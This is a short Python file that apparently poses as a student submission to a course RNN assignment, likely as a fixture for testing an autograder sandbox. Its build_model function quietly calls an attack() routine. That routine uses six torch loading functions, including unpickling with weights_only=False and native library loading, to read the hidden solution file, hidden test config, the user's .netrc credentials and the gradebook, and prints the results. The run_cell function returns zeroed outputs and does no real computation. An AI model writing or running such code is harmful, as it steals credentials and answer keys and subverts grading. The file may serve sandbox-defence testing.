# Reads the secrets' files with torch's own readers: load, from_file, jit, hub.
import torch
from torch import nn

PATHS = ["@COURSE@/solutions/rnn/rnn_cell.py", "@COURSE@/solutions/rnn/hidden.toml", "@HOME@/.netrc", "@GRADEBOOK@"]


def attack():
    for path in PATHS:
        for read in (
            lambda: torch.load(path, weights_only=False),
            lambda: bytes(torch.UntypedStorage.from_file(path, False, 64)),
            lambda: torch.jit.load(path),
            lambda: torch.hub.load(path, "x", source="local"),
            lambda: torch.ops.load_library(path),
            lambda: torch.from_file(path, size=64, dtype=torch.uint8),
        ):
            try:
                print(read())
            except BaseException as error:
                print(type(error).__name__)


def build_model(input_size, hidden_size, output_size):
    attack()
    return nn.RNNCell(input_size, hidden_size), nn.Linear(hidden_size, output_size)


def run_cell(cell, linear, seq, hidden):
    steps, batch, _ = seq.shape
    outputs = linear(torch.zeros(steps, batch, linear.in_features))
    return outputs * 0, cell(seq[0], hidden).expand(steps, -1, -1) * 0
